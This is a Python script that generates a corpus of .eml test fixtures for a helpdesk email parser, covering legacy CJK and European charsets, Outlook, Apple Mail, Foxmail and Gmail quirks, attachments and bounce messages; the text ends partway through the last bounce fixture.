"""Writes the .eml fixture corpus next to this file.

The messages are hand-written after real mail from the clients and MTAs named in each
file (headers, structure and quirks as those programs produce them); this script only
does the encoding work (base64, quoted-printable, legacy charsets) that cannot be typed.
Run it after editing: ``python loopdesk/channels/tests/email_corpus/make_corpus.py``.
Expectations live in ``test_email_corpus.py``, written by hand, not derived from here.
"""

import base64
import quopri
from pathlib import Path

HERE = Path(__file__).resolve().parent


# Inside f-string expressions (Python 3.11 allows no backslash there) "¶" stands for a
# line feed and "¤" for a carriage return.
def _lines(text: str) -> str:
    return text.replace("¶", "\n").replace("¤", "\r")


def b64(data: bytes | str, enc: str = "utf-8") -> str:
    if isinstance(data, str):
        data = _lines(data).encode(enc)
    text = base64.b64encode(data).decode()
    return "\n".join(text[i : i + 76] for i in range(0, len(text), 76))


def qp(text: str, enc: str = "utf-8") -> str:
    return quopri.encodestring(_lines(text).encode(enc)).decode("ascii")


def ew(text: str, enc: str = "utf-8", kind: str = "B") -> str:
    data = text.encode(enc)
    if kind == "B":
        return f"=?{enc}?B?{base64.b64encode(data).decode()}?="
    q = "".join(
        chr(b) if (48 <= b <= 57 or 65 <= b <= 90 or 97 <= b <= 122) else f"={b:02X}" for b in data
    )
    return f"=?{enc}?Q?{q}?="


def write(name: str, content: str | bytes, crlf: bool = False) -> None:
    data = content.encode("utf-8", "surrogateescape") if isinstance(content, str) else content
    data = data.lstrip(b"\n")
    if crlf:
        data = data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    (HERE / name).write_bytes(data)


PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def main() -> None:  # noqa: PLR0915 - one message after another
    # ---------------------------------------------------------------- Chinese
    write(
        "zh_gb2312_plain.eml",
        f"""Received: from mail.example.cn (unknown [10.1.2.3]) by mx.loopdesk.example
Date: Mon, 16 Nov 2026 09:12:44 +0800
From: {ew("张伟", "gb2312")} <Zhang.Wei@Example.CN>
To: support@loopdesk.example
Subject: {ew("关于发票的问题", "gb2312")}
Message-ID: <20261116091244.3a1f@example.cn>
MIME-Version: 1.0
Content-Type: text/plain; charset="gb2312"
Content-Transfer-Encoding: base64
X-Mailer: NetEase Flash Mail 2.4.1.32

{b64("您好：¶¶我们上个月的发票还没有收到，请帮忙查一下。¶订单号：2026-1108-77¶¶谢谢！¶张伟¶", "gb2312")}
""",
    )
    write(
        "zh_gbk_qp.eml",
        f"""Date: Tue, 17 Nov 2026 14:03:10 +0800
From: "{ew("朱镕", "gbk", "Q")}" <zhurong@example.com.cn>
To: <support@loopdesk.example>
Subject: {ew("报价单（含镕字）", "gbk", "Q")}
Message-ID: <5f3a.99@example.com.cn>
MIME-Version: 1.0
Content-Type: text/plain; charset=GBK
Content-Transfer-Encoding: quoted-printable

{qp("请查收附件中的报价单。镕、珺、喆这些字不在 GB2312 里。¶", "gbk")}""",
    )
    write(
        "zh_gb18030_4byte.eml",
        f"""Date: Wed, 18 Nov 2026 08:00:00 +0800
From: {ew("黄蓉", "gb18030")} <huangrong@example.cn>
To: support@loopdesk.example
Subject: {ew("生僻字𠀀测试", "gb18030")}
Message-ID: <gb18030-1@example.cn>
MIME-Version: 1.0
Content-Type: text/plain; charset=gb18030
Content-Transfer-Encoding: base64

{b64("客户名字里有扩展字：𠀀、𪚥，还有欧元符号€。¶", "gb18030")}
""",
    )
    html_zh = (
        '<div dir="ltr"><p>你好，</p><p>登录后台时提示<b>“账号已锁定”</b>，请协助解锁。</p>'
        "<p>谢谢<br>李娜</p></div>"
    )
    write(
        "zh_utf8_base64_alternative.eml",
        f"""Date: Thu, 19 Nov 2026 10:30:00 +0800
From: =?UTF-8?B?{base64.b64encode("李娜".encode()).decode()}?= <lina@example.cn>
To: support@loopdesk.example
Subject: =?UTF-8?B?{base64.b64encode("账号被锁定了".encode()).decode()}?=
Message-ID: <CAF=abc123@mail.gmail.com>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="000000000000a1b2c3"

--000000000000a1b2c3
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: base64

{b64("你好，¶¶登录后台时提示“账号已锁定”，请协助解锁。¶¶谢谢¶李娜¶")}
--000000000000a1b2c3
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: base64

{b64(html_zh)}
--000000000000a1b2c3--
""",
    )
    write(
        "zh_utf8_qp_reply.eml",
        f"""Date: Fri, 20 Nov 2026 16:45:00 +0800
From: =?utf-8?Q?=E7=8E=8B=E8=8A=B3?= <wangfang@example.cn>
To: "Loopdesk Support" <support@loopdesk.example>
Subject: =?utf-8?Q?Re:_[#100234]_=E6=89=93=E5=8D=B0=E6=9C=BA=E6=97=A0=E6=B3=95=E8=BF=9E=E6=8E=A5?=
Message-ID: <reply-7781@example.cn>
In-Reply-To: <ticket-100234.1700000000.abcd@loopdesk.example>
References: <ticket-100234.1699990000.0001@loopdesk.example>
 <ticket-100234.1700000000.abcd@loopdesk.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

{qp("重启以后还是连不上打印机，错误代码 0x0000011b。¶¶> 请先重启打印机后再试。¶")}""",
    )
    write(
        "zh_big5_traditional.eml",
        f"""Date: Mon, 16 Nov 2026 11:11:11 +0800
From: {ew("陳大文", "big5")} <chan.taiman@example.com.hk>
To: support@loopdesk.example
Subject: {ew("查詢訂單進度", "big5")}
Message-ID: <big5-001@example.com.hk>
MIME-Version: 1.0
Content-Type: text/plain; charset="big5"
Content-Transfer-Encoding: 8bit

""".encode("ascii")
        + "你好，我想查詢訂單嘅進度，唔該晒。\n陳大文 敬上\n".encode("big5hkscs"),
    )

    meta_html = (
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=gb2312"></head>'
        "<body><p>您好，附件里的发票抬头写错了，应为“上海某某贸易有限公司”。</p></body></html>"
    )
    write(
        "zh_html_meta_charset.eml",
        b"""Date: Sat, 21 Nov 2026 09:30:00 +0800
From: =?gb2312?B?"""
        + base64.b64encode("何静".encode("gb2312"))
        + b"""?= <hejing@126.example>
To: support@loopdesk.example
Subject: =?gb2312?B?"""
        + base64.b64encode("发票抬头错误".encode("gb2312"))
        + b"""?=
Message-ID: <meta.1@126.example>
MIME-Version: 1.0
Content-Type: text/html
Content-Transfer-Encoding: 8bit

"""
        + meta_html.encode("gb2312"),
    )
    write(
        "ooo_zh_outlook_dafu.eml",
        f"""From: {ew("吴磊", "gb2312")} <wulei@corp.example.cn>
To: support@loopdesk.example
Subject: {ew("自动答复: 关于合同续签", "gb2312")}
Date: Sat, 21 Nov 2026 10:00:00 +0800
Message-ID: <dafu.1@corp.example.cn>
Thread-Topic: {ew("关于合同续签", "gb2312")}
Thread-Index: AQHaAbCdEfGhIjKlMnOp
MIME-Version: 1.0
Content-Type: text/plain; charset="gb2312"
Content-Transfer-Encoding: base64

{b64("本人出差中，11月25日回来。急事请联系王经理。¶", "gb2312")}
""",
        crlf=True,
    )

    # ---------------------------------------------------------------- Japanese
    jp_body = "株式会社サンプル\n営業部 山田様\n\nいつもお世話になっております。\n①見積書を添付いたします。\n②納期は来月末の予定です。\n\nよろしくお願いいたします。\n"
    jis = bytearray()
    for ch in jp_body:
        if ch in "①②":
            jis += b"\x1b$B" + bytes([0x2D, 0x21 + "①②".index(ch)]) + b"\x1b(B"
        else:
            jis += ch.encode("iso2022_jp")
    write(
        "ja_iso2022jp_outlook.eml",
        f"""Date: Tue, 17 Nov 2026 09:00:00 +0900
From: {ew("鈴木一郎", "iso-2022-jp")} <ichiro.suzuki@example.co.jp>
To: support@loopdesk.example
Subject: {ew("お見積りの件", "iso-2022-jp")}
Message-ID: <TYAPR01MB1234ABCD@TYAPR01MB1234.jpnprd01.prod.outlook.com>
Thread-Index: AdlXq2x7c3VwcG9ydGxvb3BkZXNr
Thread-Topic: =?iso-2022-jp?B?GyRCJCpMLFxRJGokTjc+GyhC?=
X-Mailer: Microsoft Outlook 16.0
MIME-Version: 1.0
Content-Type: text/plain; charset="iso-2022-jp"
Content-Transfer-Encoding: 7bit

""".encode("ascii")
        + bytes(jis),
        crlf=True,
    )
    write(
        "ja_shift_jis.eml",
        f"""Date: Wed, 18 Nov 2026 13:20:00 +0900
From: {ew("佐藤花子", "shift_jis")} <hanako@example.jp>
To: support@loopdesk.example
Subject: {ew("請求書再発行のお願い", "shift_jis")}
Message-ID: <sjis.20261118@example.jp>
MIME-Version: 1.0
Content-Type: text/plain; charset=Shift_JIS
Content-Transfer-Encoding: 8bit

""".encode("ascii")
        + "㈱サンプル 経理部です。\n10月分の請求書～再発行をお願いします。\n".encode("cp932"),
    )

    # ---------------------------------------------------------------- German
    write(
        "de_latin1_qp.eml",
        f"""Date: Thu, 19 Nov 2026 08:15:00 +0100
From: =?ISO-8859-1?Q?J=FCrgen_M=FCller?= <j.mueller@example.de>
To: support@loopdesk.example
Subject: =?ISO-8859-1?Q?R=FCckfrage_zur_Lieferung?=
Message-ID: <4f2e.1234@example.de>
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-8859-1
Content-Transfer-Encoding: quoted-printable

{qp("Sehr geehrte Damen und Herren,¶¶bitte prüfen Sie die Lieferung für München.¶¶Mit freundlichen Grüßen¶Jürgen Müller¶", "latin-1")}""",
    )
    write(
        "de_utf8_apple_mail.eml",
        f"""Content-Type: multipart/alternative;
\tboundary="Apple-Mail=_8C2B6A3E-1F0D-4E5B-9A7C-2D1E0F3B4A5C"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3731.700.6\\))
Subject: =?utf-8?Q?Gr=C3=BC=C3=9Fe_und_eine_Frage_zur_Rechnung?=
From: =?utf-8?Q?Sabine_Sch=C3=A4fer?= <sabine@example.de>
Date: Fri, 20 Nov 2026 17:02:33 +0100
Message-Id: <6A1B2C3D-4E5F-6789-ABCD-EF0123456789@example.de>
To: support@loopdesk.example
X-Mailer: Apple Mail (2.3731.700.6)


--Apple-Mail=_8C2B6A3E-1F0D-4E5B-9A7C-2D1E0F3B4A5C
Content-Transfer-Encoding: quoted-printable
Content-Type: text/plain;
\tcharset=utf-8

{qp("Hallo,¶¶die Rechnung enthält einen Fehler bei der Umsatzsteuer.¶¶Viele Grüße¶Sabine¶")}
--Apple-Mail=_8C2B6A3E-1F0D-4E5B-9A7C-2D1E0F3B4A5C
Content-Transfer-Encoding: quoted-printable
Content-Type: text/html;
\tcharset=utf-8

{qp('<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body style="overflow-wrap: break-word;">Hallo,<div><br></div><div>die Rechnung enthält einen Fehler bei der Umsatzsteuer.</div><div><br></div><div>Viele Grüße</div><div>Sabine</div></body></html>')}
--Apple-Mail=_8C2B6A3E-1F0D-4E5B-9A7C-2D1E0F3B4A5C--
""",
    )

    # ---------------------------------------------------------------- other charsets
    write(
        "utf7_message.eml",
        """Date: Mon, 16 Nov 2026 12:00:00 +0000
From: legacy@example.org
To: support@loopdesk.example
Subject: =?utf-7?Q?Caf+AOk-_+ZeVnLIqe-?=
Message-ID: <utf7.1@example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset="unicode-1-1-utf-7"
Content-Transfer-Encoding: 7bit

Hello from an old client: +ZeVnLIqe- and caf+AOk-.
""",
    )
    write(
        "ko_ks_c_5601.eml",
        f"""Date: Tue, 17 Nov 2026 10:00:00 +0900
From: {ew("김민수", "ks_c_5601-1987".replace("ks_c_5601-1987", "euc-kr"))} <minsu.kim@example.co.kr>
To: support@loopdesk.example
Subject: =?ks_c_5601-1987?B?{base64.b64encode("문의 드립니다".encode("cp949")).decode()}?=
Message-ID: <ko.1@example.co.kr>
MIME-Version: 1.0
Content-Type: text/plain; charset="ks_c_5601-1987"
Content-Transfer-Encoding: base64

{b64("안녕하세요. 제품 설치 문의입니다.¶", "cp949")}
""",
    )
    write(
        "bogus_charset_labels.eml",
        f"""Date: Wed, 18 Nov 2026 18:00:00 +0800
From: {ew("刘洋", "gb2312").replace("gb2312", "iso-gb2312")} <liuyang@example.cn>
To: support@loopdesk.example
Subject: =?x-unknown?B?{base64.b64encode("系统升级通知".encode()).decode()}?=
Message-ID: <bogus.1@example.cn>
MIME-Version: 1.0
Content-Type: text/plain; charset="iso-gb2312"
Content-Transfer-Encoding: base64

{b64("下周六凌晨进行系统升级，期间服务暂停两小时。¶", "gb2312")}
""",
    )
    write(
        "undeclared_8bit.eml",
        b"Date: Thu, 19 Nov 2026 07:00:00 +0800\n"
        b"From: " + "赵敏".encode("gbk") + b" <zhaomin@example.cn>\n"
        b"To: support@loopdesk.example\n"
        b"Subject: " + "网站打不开了，请尽快处理".encode("gbk") + b"\n"
        b"Message-ID: <raw8bit.1@example.cn>\n"
        b"MIME-Version: 1.0\n"
        b"Content-Type: text/plain\n"
        b"Content-Transfer-Encoding: 8bit\n\n"
        + "公司官网从今天早上开始一直打不开，显示五百错误，客户都在问，请尽快处理一下，谢谢。\n".encode(
            "gbk"
        ),
    )
    write(
        "mixed_charsets_parts.eml",
        f"""Date: Fri, 20 Nov 2026 09:00:00 +0800
From: ops@example.com.tw
To: support@loopdesk.example
Subject: =?big5?B?{base64.b64encode("兩岸辦公室".encode("big5")).decode()}?= / =?gb18030?B?{base64.b64encode("两岸办公室".encode("gb18030")).decode()}?=
Message-ID: <mixed.1@example.com.tw>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="mix"

--mix
Content-Type: text/plain; charset=big5
Content-Transfer-Encoding: base64

{b64("台北辦公室：網路中斷。¶", "big5")}
--mix
Content-Type: text/plain; charset=gb18030
Content-Transfer-Encoding: base64

{b64("上海办公室：网络正常。¶", "gb18030")}
--mix--
""",
    )

    # ---------------------------------------------------------------- Outlook
    tnef = (
        b"\x78\x9f\x3e\x22"
        + b"\x01\x06\x90\x08\x00\x04\x00\x00\x00\x00\x00\x01\x00\x01\x00"
        + bytes(range(64))
    )
    write(
        "outlook_winmail_dat.eml",
        f"""Received: from EXCH01.corp.example.com (10.0.0.5) by EXCH02.corp.example.com
From: "Smith, John" <John.Smith@corp.example.com>
To: "support@loopdesk.example" <support@loopdesk.example>
Subject: Server room temperature alarm
Thread-Topic: Server room temperature alarm
Thread-Index: AdlYc2VydmVycm9vbXRlbXBlcmF0dXJl
Date: Mon, 16 Nov 2026 15:41:09 +0000
Message-ID: <BN6PR11MB1234567890ABCDEF@BN6PR11MB1234.namprd11.prod.outlook.com>
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator: <BN6PR11MB1234567890ABCDEF@BN6PR11MB1234.namprd11.prod.outlook.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="_002_BN6PR11MB1234_"

--_002_BN6PR11MB1234_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

The temperature alarm in server room B went off twice last night. Log attac=
hed.

John
--_002_BN6PR11MB1234_
Content-Type: application/ms-tnef; name="winmail.dat"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="winmail.dat"

{b64(tnef)}
--_002_BN6PR11MB1234_--
""",
        crlf=True,
    )
    write(
        "outlook_raw_utf8_filename.eml",
        b"""From: =?utf-8?B?6auY5bOw?= <gaofeng@corp.example.cn>
To: support@loopdesk.example
Subject: =?utf-8?B?5ZCI5ZCM6I2J5qGI?=
Date: Tue, 17 Nov 2026 11:00:00 +0800
Message-ID: <SG2PR06MB0001@SG2PR06MB0001.apcprd06.prod.outlook.com>
Thread-Index: AQHZ0123456789abcdef
X-Mailer: Microsoft Outlook 16.0
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="----=_NextPart_000_0012_01DA1234.56789ABC"

This is a multi-part message in MIME format.

------=_NextPart_000_0012_01DA1234.56789ABC
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64

"""
        + b64("合同草案见附件，请审阅。\n").encode()
        + b"""

------=_NextPart_000_0012_01DA1234.56789ABC
Content-Type: application/pdf; name=\""""
        + "合同草案 v2.pdf".encode()
        + b"""\"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename=\""""
        + "合同草案 v2.pdf".encode()
        + b"""\"

"""
        + b64(PDF).encode()
        + b"""

------=_NextPart_000_0012_01DA1234.56789ABC--
""",
        crlf=True,
    )
    write(
        "outlook_raw_gbk_filename.eml",
        b"""From: "=?gb2312?B?"""
        + base64.b64encode("孙丽".encode("gb2312"))
        + b"""?=" <sunli@corp.example.cn>
To: support@loopdesk.example
Subject: =?gb2312?B?"""
        + base64.b64encode("月度报表".encode("gb2312"))
        + b"""?=
Date: Wed, 18 Nov 2026 17:30:00 +0800
Message-ID: <000a01da1234$56789abc$0123def0@corp.example.cn>
X-Mailer: Microsoft Outlook 14.0
Thread-Index: AdoSNFZ4mrwBI97w
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="----=_NextPart_000_000B_01DA1234.56789ABC"

------=_NextPart_000_000B_01DA1234.56789ABC
Content-Type: text/plain; charset="gb2312"
Content-Transfer-Encoding: base64

"""
        + b64("报表在附件里。\n", "gb2312").encode()
        + b"""

------=_NextPart_000_000B_01DA1234.56789ABC
Content-Type: application/vnd.ms-excel; name=\""""
        + "十月报表.xls".encode("gbk")
        + b"""\"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename=\""""
        + "十月报表.xls".encode("gbk")
        + b"""\"

0M8R4KGxGuEAAAAAAAAAAAAAAAAAAAAAPgADAP7/CQAGAAAAAAAAAAAAAAABAAAA

------=_NextPart_000_000B_01DA1234.56789ABC--
""",
        crlf=True,
    )

    # ---------------------------------------------------------------- Foxmail
    subject = "关于服务器迁移的安排".encode("gbk")
    parts = [subject[0:5], subject[5:11], subject[11:]]  # splits inside characters
    fox_subject = "\n ".join(f"=?GBK?B?{base64.b64encode(p).decode()}?=" for p in parts)
    write(
        "foxmail_split_words.eml",
        f"""Date: Thu, 19 Nov 2026 10:10:10 +0800
From: "{ew("周杰", "gbk")}" <zhoujie@example.cn>
To: "support" <support@loopdesk.example>
Subject: {fox_subject}
X-Priority: 3
X-GUID: 4A3B2C1D-0000-1111-2222-333344445555
X-Has-Attach: no
X-Mailer: Foxmail 7.2.25.228[cn]
Mime-Version: 1.0
Message-ID: <202611191010106789012@example.cn>
Content-Type: multipart/alternative;
\tboundary="----=_001_NextPart123456789012_=----"

This is a multi-part message in MIME format.

------=_001_NextPart123456789012_=----
Content-Type: text/plain;
\tcharset="GB2312"
Content-Transfer-Encoding: base64

{b64("下周三晚上十点开始迁移，预计两小时。¶¶zhoujie@example.cn¶", "gb2312")}

------=_001_NextPart123456789012_=----
Content-Type: text/html;
\tcharset="GB2312"
Content-Transfer-Encoding: quoted-printable

{qp("<html><body><div>下周三晚上十点开始迁移，预计两小时。</div><div><br></div><hr><div>zhoujie@example.cn</div></body></html>", "gb2312")}
------=_001_NextPart123456789012_=------
""",
    )

    # ---------------------------------------------------------------- Gmail inline images
    write(
        "gmail_inline_image.eml",
        f"""MIME-Version: 1.0
Date: Fri, 20 Nov 2026 11:22:33 +0000
Message-ID: <CAB1x2y3z4=inline@mail.gmail.com>
Subject: Screenshot of the error
From: Alex Chen <alex.chen@gmail.example>
To: support@loopdesk.example
Content-Type: multipart/related; boundary="0000000000001111"

--0000000000001111
Content-Type: multipart/alternative; boundary="0000000000002222"

--0000000000002222
Content-Type: text/plain; charset="UTF-8"

The app shows this error:
[image: error.png]
Thanks, Alex

--0000000000002222
Content-Type: text/html; charset="UTF-8"

<div dir="ltr">The app shows this error:<br><img src="cid:ii_lp1a2b3c0" alt="error.png" width="320"><br>Thanks, Alex</div>

--0000000000002222--
--0000000000001111
Content-Type: image/png; name="error.png"
Content-Disposition: inline; filename="error.png"
Content-Transfer-Encoding: base64
Content-ID: <ii_lp1a2b3c0>
X-Attachment-Id: ii_lp1a2b3c0

{b64(PNG)}
--0000000000001111--
""",
    )

    # ---------------------------------------------------------------- forwarded mail
    write(
        "forwarded_rfc822.eml",
        """Date: Mon, 16 Nov 2026 13:00:00 +0100
From: Maria Rossi <maria.rossi@example.it>
To: support@loopdesk.example
Subject: Fwd: Complaint from a customer
Message-ID: <fwd.1@example.it>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="fwdbound"

--fwdbound
Content-Type: text/plain; charset=utf-8

Please see the complaint below, forwarded as an attachment.

--fwdbound
Content-Type: message/rfc822
Content-Disposition: attachment

Date: Sun, 15 Nov 2026 20:00:00 +0100
From: Angry Customer <angry@example.net>
To: maria.rossi@example.it
Subject: =?utf-8?Q?Beschwerde:_Lieferung_besch=C3=A4digt?=
Message-ID: <orig.42@example.net>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Die Lieferung kam beschädigt an.

--fwdbound--
""",
    )
    inner = (
        "From: Old Customer <old.customer@example.net>\r\nTo: sales@example.it\r\n"
        "Subject: =?utf-8?B?"
        + base64.b64encode("Preisanfrage für 2027".encode()).decode()
        + "?=\r\n"
        "Message-ID: <inner.b64@example.net>\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        "Bitte senden Sie uns ein Angebot.\r\n"
    )
    write(
        "forwarded_rfc822_base64.eml",
        f"""Date: Sat, 21 Nov 2026 11:00:00 +0100
From: Sales Team <sales@example.it>
To: support@loopdesk.example
Subject: Fw: Preisanfrage
Message-ID: <fwd.b64@example.it>
X-Mailer: Webmail 3.1
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b64fwd"

--b64fwd
Content-Type: text/plain; charset=utf-8

See the attached request.

--b64fwd
Content-Type: message/rfc822; name="Preisanfrage.eml"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="Preisanfrage.eml"

{b64(inner)}
--b64fwd--
""",
    )
    jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(40) + b"\xff\xd9"
    write(
        "apple_mail_inline_photo_mixed.eml",
        f"""From: =?utf-8?Q?Ren=C3=A9_Dubois?= <rene.dubois@example.fr>
Content-Type: multipart/mixed;
\tboundary="Apple-Mail=_MIXED-0001"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3774.500.171.1.1\\))
Subject: Photo of the damaged box
Date: Sat, 21 Nov 2026 12:00:00 +0100
Message-Id: <MIXED-0001@example.fr>
To: support@loopdesk.example
X-Mailer: Apple Mail (2.3774.500.171.1.1)


--Apple-Mail=_MIXED-0001
Content-Transfer-Encoding: 7bit
Content-Type: text/plain;
\tcharset=us-ascii

Here is the box as it arrived:

--Apple-Mail=_MIXED-0001
Content-Disposition: inline;
\tfilename=IMG_0042.jpeg
Content-Type: image/jpeg;
\tx-unix-mode=0644;
\tname="IMG_0042.jpeg"
Content-Transfer-Encoding: base64

{b64(jpeg)}
--Apple-Mail=_MIXED-0001
Content-Transfer-Encoding: 7bit
Content-Type: text/plain;
\tcharset=us-ascii


The corner is crushed.

Rene
--Apple-Mail=_MIXED-0001--
""",
    )
    write(
        "calendar_invite.eml",
        f"""From: "Wong, Kelly" <kelly.wong@corp.example.com>
To: support@loopdesk.example
Subject: Quarterly support review
Date: Tue, 17 Nov 2026 02:00:00 +0000
Message-ID: <calendar.1@corp.example.com>
Thread-Index: AdlZcXVhcnRlcmx5cmV2aWV3
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="_000_cal_"

--_000_cal_
Content-Type: text/plain; charset="us-ascii"

When: Thursday, 26 November 2026 10:00-11:00 (UTC+08:00) Beijing
Where: Room 5

Agenda: quarterly support review.

--_000_cal_
Content-Type: text/html; charset="us-ascii"

<html><body><p>When: Thursday, 26 November 2026 10:00-11:00</p><p>Agenda: quarterly support review.</p></body></html>

--_000_cal_
Content-Type: text/calendar; charset="utf-8"; method=REQUEST
Content-Transfer-Encoding: base64

{b64("BEGIN:VCALENDAR¤¶METHOD:REQUEST¤¶PRODID:Microsoft Exchange Server 2016¤¶VERSION:2.0¤¶BEGIN:VEVENT¤¶UID:040000008200E00074C5B7101A82E008¤¶SUMMARY:Quarterly support review¤¶DTSTART:20261126T020000Z¤¶DTEND:20261126T030000Z¤¶END:VEVENT¤¶END:VCALENDAR¤¶")}

--_000_cal_--
""",
    )
    write(
        "rfc2231_filenames.eml",
        f"""Date: Wed, 18 Nov 2026 12:00:00 +0800
From: Thunderbird User <tb@example.org>
To: support@loopdesk.example
Subject: Files with long international names
Message-ID: <rfc2231.1@example.org>
User-Agent: Mozilla Thunderbird
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="------------tb2231"

--------------tb2231
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

Two files attached.

--------------tb2231
Content-Type: application/pdf;
 name*=UTF-8''%E4%BA%A7%E5%93%81%E8%AF%B4%E6%98%8E%E4%B9%A6.pdf
Content-Disposition: attachment;
 filename*=UTF-8''%E4%BA%A7%E5%93%81%E8%AF%B4%E6%98%8E%E4%B9%A6.pdf
Content-Transfer-Encoding: base64

{b64(PDF)}
--------------tb2231
Content-Type: text/plain; charset=UTF-8;
 name="=?UTF-8?Q?Pr=C3=BCfbericht_2026.txt?="
Content-Disposition: attachment;
 filename*0*=gbk''%CE%C4%BC%FE%C3%FB%B3%C6;
 filename*1*=%BA%DC%B3%A4.txt
Content-Transfer-Encoding: base64

{b64("report¶")}
--------------tb2231
Content-Type: application/octet-stream;
 name="=?UTF-8?Q?Pr=C3=BCfbericht_2026.bin?="
Content-Disposition: attachment;
 filename="=?UTF-8?Q?Pr=C3=BCfbericht_2026.bin?="
Content-Transfer-Encoding: base64

AAECAwQF
--------------tb2231--
""",
    )

    # ---------------------------------------------------------------- bounces
    original = """Message-ID: <ticket-100234.1700000000.abcd@loopdesk.example>
Date: Mon, 16 Nov 2026 09:00:00 +0000
From: Loopdesk Support <support@loopdesk.example>
To: nobody@gone.example
Subject: [#100234] Re: Printer
"""
    write(
        "dsn_postfix.eml",
        f"""Return-Path: <>
Delivered-To: support@loopdesk.example
Received: by mail.loopdesk.example (Postfix) id 4ABC1234; Mon, 16 Nov 2026 09:00:05 +0000 (UTC)
Date: Mon, 16 Nov 2026 09:00:05 +0000 (UTC)
From: MAILER-DAEMON@mail.loopdesk.example (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: support@loopdesk.example
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="4ABC1234.1700000005/mail.loopdesk.example"
Message-Id: <20261116090005.4ABC1234@mail.loopdesk.example>

This is a MIME-encapsulated message.

--4ABC1234.1700000005/mail.loopdesk.example
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mail.loopdesk.example.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients. It's attached below.

                   The mail system

<nobody@gone.example>: host mx.gone.example[192.0.2.10] said: 550 5.1.1
    <nobody@gone.example>: Recipient address rejected: User unknown in virtual
    mailbox table (in reply to RCPT TO command)

--4ABC1234.1700000005/mail.loopdesk.example
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mail.loopdesk.example
X-Postfix-Queue-ID: 4ABC1234
X-Postfix-Sender: rfc822; support@loopdesk.example
Arrival-Date: Mon, 16 Nov 2026 09:00:01 +0000 (UTC)

Final-Recipient: rfc822; nobody@gone.example
Original-Recipient: rfc822;nobody@gone.example
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.gone.example
Diagnostic-Code: smtp; 550 5.1.1 <nobody@gone.example>: Recipient address
    rejected: User unknown in virtual mailbox table

--4ABC1234.1700000005/mail.loopdesk.example
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers

{original}
--4ABC1234.1700000005/mail.loopdesk.example--
""",
    )
    write(
        "dsn_postfix_delayed.eml",
        f"""Return-Path: <>
Date: Mon, 16 Nov 2026 13:00:05 +0000 (UTC)
From: MAILER-DAEMON@mail.loopdesk.example (Mail Delivery System)
Subject: Delayed Mail (still being retried)
To: support@loopdesk.example
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="D1"
Message-Id: <20261116130005.D1@mail.loopdesk.example>

--D1
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mail.loopdesk.example.

####################################################################
# THIS IS A WARNING ONLY.  YOU DO NOT NEED TO RESEND YOUR MESSAGE. #
####################################################################

Your message could not be delivered for more than 4 hour(s).
It will be retried until it is 5 day(s) old.

--D1
Content-Type: message/delivery-status

Reporting-MTA: dns; mail.loopdesk.example

Final-Recipient: rfc822; slow@busy.example
Action: delayed
Status: 4.4.1
Diagnostic-Code: X-Postfix; connect to mx.busy.example[198.51.100.7]:25: Connection timed out

--D1
Content-Type: text/rfc822-headers

{original.replace("nobody@gone.example", "slow@busy.example")}
--D1--
""",
    )
    write(
        "dsn_exim.eml",
        """Return-path: <>
Envelope-to: support@loopdesk.example
X-Failed-Recipients: ghost@example.net
Auto-Submitted: auto-replied
From: Mail Delivery System <Mailer-Daemon@smtp.example.net>
To: support@loopdesk.example
Subject: Mail delivery failed: returning message to sender
Message-Id: <E1t9abc-0001Xy-Ab@smtp.example.net>
Date: Tue, 17 Nov 2026 10:00:00 +0000

This message was created automatically by mail delivery software.

A message that you sent could not be delivered to one or more of its
recipients. This is a permanent error. The following address(es) failed:

  ghost@example.net
    host mx.example.net [203.0.113.5]
    SMTP error from remote mail server after RCPT TO:<ghost@example.net>:
    550 5.1.1 The email account that you tried to reach does not exist

------ This is a copy of the message, including all the headers. ------

Return-path: <support@loopdesk.example>
